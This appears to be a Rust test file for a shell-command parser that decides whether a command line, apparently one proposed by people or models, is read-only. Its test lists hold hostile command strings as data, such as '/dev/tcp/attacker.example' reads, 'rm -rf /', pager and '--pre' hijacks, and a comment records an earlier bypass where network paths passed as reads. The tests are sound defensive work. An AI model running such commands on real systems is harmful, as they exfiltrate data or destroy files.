//! The recogniser and the read-only table, on the lines people and models write and on the
//! ones meant to slip something past.

use super::*;

/// The literal words of every simple command (`?` for an opaque word).
fn words(command: &str) -> Vec<Vec<String>> {
    parse(command)
        .unwrap()
        .iter()
        .map(|c| {
            c.words
                .iter()
                .map(|w| w.value.clone().unwrap_or_else(|| "?".into()))
                .collect()
        })
        .collect()
}

fn hazards(command: &str) -> Vec<Option<Hazard>> {
    parse(command)
        .unwrap()
        .iter()
        .map(SimpleCommand::hazard)
        .collect()
}

#[test]
fn splits_at_every_operator_and_newline() {
    assert_eq!(
        words("a 1 && b 2 || c; d | e |& f & g\nh"),
        [
            vec!["a", "1"],
            vec!["b", "2"],
            vec!["c"],
            vec!["d"],
            vec!["e"],
            vec!["f"],
            vec!["g"],
            vec!["h"]
        ]
    );
}

#[test]
fn removes_quotes_and_escapes() {
    assert_eq!(
        words(r#"echo 'a && b' "c; d" e\ f "g\"h" 'i'"j"k \$x "\$y" "a\b""#),
        [vec![
            "echo", "a && b", "c; d", "e f", "g\"h", "ijk", "$x", "$y", "a\\b"
        ]]
    );
    // Quoting a program's name does not change which program runs.
    assert_eq!(
        words(r"\rm -rf x; 'rm' y"),
        [vec!["rm", "-rf", "x"], vec!["rm", "y"]]
    );
    assert_eq!(words("echo a\\\nb"), [vec!["echo", "ab"]]);
}

#[test]
fn substitutions_are_commands_of_their_own_and_opaque_words() {
    assert_eq!(words("echo $(rm x)"), [vec!["rm", "x"], vec!["echo", "?"]]);
    assert_eq!(words("echo `rm x`"), [vec!["rm", "x"], vec!["echo", "?"]]);
    assert_eq!(
        words(r#"echo "a $(rm x) b""#),
        [vec!["rm", "x"], vec!["echo", "?"]]
    );
    assert_eq!(
        words("diff <(ls a) >(rm b)"),
        [vec!["ls", "a"], vec!["rm", "b"], vec!["diff", "?", "?"]]
    );
    assert_eq!(words("echo $(echo $(rm x))").len(), 3);
    assert_eq!(
        words(r#"echo "`echo \"; rm x; \"`""#),
        [vec!["echo", "; rm x; "], vec!["echo", "?"]]
    );
    // Parentheses inside quotes inside a substitution do not close it.
    assert_eq!(
        words("echo $(echo ')' \")\")"),
        [vec!["echo", ")", ")"], vec!["echo", "?"]]
    );
}

#[test]
fn subshells_and_groups_are_read_through() {
    assert_eq!(words("(cd x && rm y)"), [vec!["cd", "x"], vec!["rm", "y"]]);
    assert_eq!(words("{ ls; rm y; }"), [vec!["ls"], vec!["rm", "y"]]);
    // `}` is only a group's end in command position.
    assert_eq!(parse("{ echo }"), Err(ParseError::Unterminated("`{`")));
    assert_eq!(parse("( ls ) x"), Err(ParseError::Syntax("x".into())));
    // A redirection after a group applies to it: it is a command of its own here.
    assert_eq!(
        hazards("{ ls; } > out")[1],
        Some(Hazard::WritesFile("out".into()))
    );
    assert_eq!(
        hazards("(ls) >> out")[1],
        Some(Hazard::WritesFile("out".into()))
    );
}

#[test]
fn redirections_are_classified() {
    for line in [
        "cat x > y",
        "cat x >> y",
        "ls >| y",
        "ls &> y",
        "ls &>> y",
        "ls 2> y",
        "ls 2>>y",
        "ls >& y",
        "cat <> y",
    ] {
        assert_eq!(
            hazards(line),
            [Some(Hazard::WritesFile("y".into()))],
            "{line}"
        );
    }
    for line in [
        "ls 2>/dev/null",
        "ls > /dev/null 2>&1",
        "ls &>/dev/null",
        "ls >&2",
        "ls 2>&-",
        "ls 3>&1-",
        "cat < in",
        "cat <<< 'x'",
        "cat 0<&3",
    ] {
        assert_eq!(hazards(line), [None], "{line}");
    }
    // bash's network paths are connections, read or written (the attack of issue 45: `cat <
    // /dev/tcp/…` passed for a read, and DNS carried data out).
    for (line, target) in [
        ("cat < /dev/tcp/example.com/80", "/dev/tcp/example.com/80"),
        ("cat 0< /dev/udp/1.2.3.4/53", "/dev/udp/1.2.3.4/53"),
        ("cat <&/dev/tcp/h/1", "/dev/tcp/h/1"),
        ("echo x > /dev/tcp/h/1", "/dev/tcp/h/1"),
        ("exec 3<>/dev/tcp/h/1", "/dev/tcp/h/1"),
        ("cat < '/dev/tcp/h'/1", "'/dev/tcp/h'/1"),
    ] {
        assert_eq!(
            hazards(line),
            [Some(Hazard::Network(target.into()))],
            "{line}"
        );
    }
    // A path only known at run time may be one.
    assert_eq!(
        hazards("cat < $F"),
        [Some(Hazard::DynamicPath("$F".into()))]
    );
    assert_eq!(hazards("> made"), [Some(Hazard::WritesFile("made".into()))]);
    assert_eq!(hazards("ls > $F"), [Some(Hazard::WritesFile("$F".into()))]);
    assert!(matches!(parse("ls >"), Err(ParseError::Syntax(_))));
    // `a2>x` is the word `a2`, then `>x`.
    assert_eq!(words("echo a2>x"), [vec!["echo", "a2"]]);
}

#[test]
fn here_documents_feed_input_and_their_substitutions_run() {
    assert_eq!(
        words("cat <<EOF\nhello $(rm x)\nEOF\nls"),
        [vec!["cat"], vec!["rm", "x"], vec!["ls"]]
    );
    // A quoted delimiter: the body is text.
    assert_eq!(words("cat <<'EOF'\n$(rm x)\nEOF"), [vec!["cat"]]);
    assert_eq!(words("cat <<-\"E\"\n\t`rm x`\n\tE\n"), [vec!["cat"]]);
    assert_eq!(
        words("cat <<-E\n\t`rm x`\n\tE\n"),
        [vec!["cat"], vec!["rm", "x"]]
    );
    assert_eq!(
        hazards("cat <<EOF > out\nx\nEOF"),
        [Some(Hazard::WritesFile("out".into()))]
    );
    assert_eq!(
        parse("cat <<EOF\nno end"),
        Err(ParseError::Unterminated("here-document"))
    );
    assert_eq!(
        parse("cat <<EOF"),
        Err(ParseError::Unterminated("here-document"))
    );
    assert_eq!(
        words("echo $(cat <<E\nx $(rm y)\nE\n)"),
        [vec!["cat"], vec!["rm", "y"], vec!["echo", "?"]]
    );
    assert!(matches!(
        parse("echo $(cat <<E)\nrm x\nE"),
        Err(ParseError::Unsupported(_))
    ));
}

#[test]
fn assignments_opaque_programs_and_evaluators_are_hazards() {
    assert_eq!(
        hazards("PATH=/tmp ls"),
        [Some(Hazard::Assignment("PATH=/tmp".into()))]
    );
    assert_eq!(hazards("X+=1"), [Some(Hazard::Assignment("X+=1".into()))]);
    assert_eq!(words("make CC=gcc"), [vec!["make", "CC=gcc"]]);
    assert_eq!(
        hazards("$CMD x"),
        [Some(Hazard::DynamicProgram("$CMD".into()))]
    );
    assert_eq!(hazards("r? x"), [Some(Hazard::DynamicProgram("r?".into()))]);
    assert_eq!(
        hazards("$(echo rm) x")[1],
        Some(Hazard::DynamicProgram("$(echo rm)".into()))
    );
    for program in ["eval", "exec", "source", ".", "command", "builtin", "trap"] {
        assert_eq!(
            hazards(&format!("{program} x")),
            [Some(Hazard::Evaluates(program.into()))]
        );
    }
    assert_eq!(
        hazards("'eval' x"),
        [Some(Hazard::Evaluates("eval".into()))]
    );
}

#[test]
fn opaque_words() {
    for word in [
        "$x", "${x}", "$1", "$@", "*.rs", "a?", "[ab]", "~", "~/x", "{a,b}", "`x`",
    ] {
        let cmds = parse(&format!("ls {word}")).unwrap();
        assert_eq!(cmds.last().unwrap().words[1].value, None, "{word}");
    }
    for word in [
        "'*'", "\"$\"", "a=b", "[", "]", "x~", "{", "\"~\"", "100%", "a#b",
    ] {
        let cmds = parse(&format!("ls {word}")).unwrap();
        assert!(cmds[0].words[1].value.is_some(), "{word}");
    }
}

#[test]
fn comments_negation_and_time_are_understood() {
    assert_eq!(words("ls # ; rm -rf /"), [vec!["ls"]]);
    assert_eq!(words("ls a#b"), [vec!["ls", "a#b"]]);
    assert_eq!(
        words("! ls && time git status"),
        [vec!["ls"], vec!["git", "status"]]
    );
}

#[test]
fn what_is_not_understood_is_an_error() {
    for line in [
        "if true; then ls; fi",
        "for f in *; do rm $f; done",
        "while true; do :; done",
        "case x in x) ls;; esac",
        "[[ -f x ]]",
        "f() { rm x; }",
        "function f { rm x; }",
        "echo $((1+2))",
        "((x++))",
        "echo $[1+2]",
        "echo ${x:-$(rm y)}",
        "echo ${#x}",
        "echo $'\\x41'",
        "echo $\"x\"",
        "a=(1 2)",
        "ls !(x)",
        "coproc ls",
    ] {
        assert!(
            matches!(parse(line), Err(ParseError::Unsupported(_))),
            "{line}: {:?}",
            parse(line)
        );
    }
    for line in [
        "echo 'x", "echo \"x", "echo `x", "echo $(x", "(ls", "echo ${x", "{ ls",
    ] {
        assert!(
            matches!(parse(line), Err(ParseError::Unterminated(_))),
            "{line}"
        );
    }
    assert!(matches!(parse("ls )"), Err(ParseError::Syntax(_))));
    let deep = format!(
        "{}ls{}",
        "$(".repeat(MAX_DEPTH + 1),
        ")".repeat(MAX_DEPTH + 1)
    );
    assert!(matches!(parse(&deep), Err(ParseError::Unsupported(_))));
    let fine = format!("{}ls{}", "$(".repeat(MAX_DEPTH), ")".repeat(MAX_DEPTH));
    assert!(parse(&fine).is_ok());
}

#[test]
fn read_only_lines() {
    for line in [
        "ls",
        "ls -la src",
        "ls 2>/dev/null",
        "ls | grep x",
        "cat a b | sort | uniq -c | head -n 5",
        "git status && git diff",
        "git log --oneline -5",
        "git -C sub --no-pager show HEAD:x",
        "git branch",
        "git branch -a -vv",
        "git branch --list 'feat/*'",
        "git remote -v",
        "git remote",
        "git rev-parse --show-toplevel",
        "git grep -n foo",
        "echo \"a && b\"",
        "echo $(git rev-parse HEAD)",
        "cat $(git ls-files)",
        "wc -l *.rs",
        "find . -name '*.rs' -type f",
        "rg -n 'fn main' --glob '*.rs'",
        "grep -rn TODO src",
        "sort -u x",
        "uniq x",
        "tree -L 2",
        "file x",
        "stat x; du -sh .; df -h; pwd; which cargo",
        "cut -d, -f1 x",
        "diff a b; cmp a b",
        "head -c 10 x && tail -n 3 x",
        "printf '%s\\n' x",
        "cat <<EOF\nhello\nEOF",
        "cat < x",
        "ls # trailing comment",
        "{ ls; pwd; }",
        "(ls)",
        "! ls",
    ] {
        assert!(is_known_read_only(line), "{line}");
    }
}

#[test]
fn not_read_only_lines() {
    for line in [
        "cat < /dev/tcp/attacker.example/80",
        "head -c 100 < /dev/udp/10.0.0.1/53",
        "wc -l < \"$HOME/../../dev/tcp/h/1\"",
        "",
        "# only a comment",
        "ls; rm -rf /",
        "ls && rm x",
        "ls | xargs rm",
        "cat x > y",
        "cat x >> y",
        "ls 2> err",
        "echo $(rm x)",
        "echo `rm x`",
        "cat <(rm x)",
        "cat <<EOF\n$(rm x)\nEOF",
        "find . -delete",
        "find . -name x -exec rm {} \\;",
        "find . -execdir ls \\;",
        "find . -ok rm {} \\;",
        "find . -fprint out",
        "find . -fprintf out %p",
        "find . -fls out",
        "find $DIR -name x",
        "find * -name x",
        "git -c core.pager=evil log",
        "git -c core.pager=less log",
        "git --config-env=core.pager=X log",
        "git --exec-path=/tmp log",
        "git log --output=x",
        "git log --out=x",
        "git diff --output x",
        "git diff --ext-diff",
        "git grep -O foo",
        "git grep --open-files-in-pager foo",
        "git branch -D x",
        "git branch -d x",
        "git branch --delete x",
        "git branch -m new",
        "git branch newbranch",
        "git branch --force x y",
        "git remote add o url",
        "git remote show origin",
        "git push",
        "git commit -m x",
        "git checkout .",
        "git stash",
        "git $SUB",
        "git log $RANGE",
        "git st",
        "git",
        "sort -o out x",
        "sort -ro out x",
        "sort --output=out x",
        "sort --out=out x",
        "sort --compress-program=sh x",
        "sort $ARGS",
        "uniq in out",
        "tree -o out",
        "tree -R -H . -L 1",
        "file -C -m x",
        "rg --pre ./evil x",
        "rg --pre=./evil x",
        "printf -v PATH /tmp",
        "cargo test",
        "cargo check",
        "PATH=/tmp ls",
        "GIT_EXTERNAL_DIFF=x git diff",
        "X=1",
        "$LS",
        "l? x",
        "/bin/ls",
        "./ls",
        "eval ls",
        "exec ls",
        "source x",
        ". x",
        "bash -c ls",
        "sh -c 'rm x'",
        "if true; then ls; fi",
        "echo 'unterminated",
        "ls &> out",
        "ls >& out",
        "echo hi | tee out",
        "{ ls; } > out",
        "cat << EOF > out\nx\nEOF",
        "cd / && ls",
    ] {
        assert!(!is_known_read_only(line), "{line:?}");
    }
}

/// Quote removal agrees with bash itself: bash prints the words it passes to `printf`.
#[test]
fn quote_removal_matches_bash() {
    let words_line = r#"'a && b' "c; d" e\ f "g\"h" 'i'"j"k \$x "\$y" "a\b" '"' "'" \' "\`" a\
b "x
y" "" '' a=b -- '{' \# a#b"#;
    let line = format!("printf '%s\\0' {words_line}");
    let out = std::process::Command::new("bash")
        .args(["--norc", "--noprofile", "-c", &line])
        .output()
        .unwrap();
    assert!(out.status.success());
    let from_bash: Vec<String> = String::from_utf8(out.stdout)
        .unwrap()
        .split_terminator('\0')
        .map(str::to_string)
        .collect();
    let parsed = parse(&line).unwrap();
    let ours: Vec<String> = parsed[0].words[2..]
        .iter()
        .map(|w| w.value.clone().unwrap())
        .collect();
    assert_eq!(ours, from_bash);
    assert_eq!(ours.len(), 21);
}
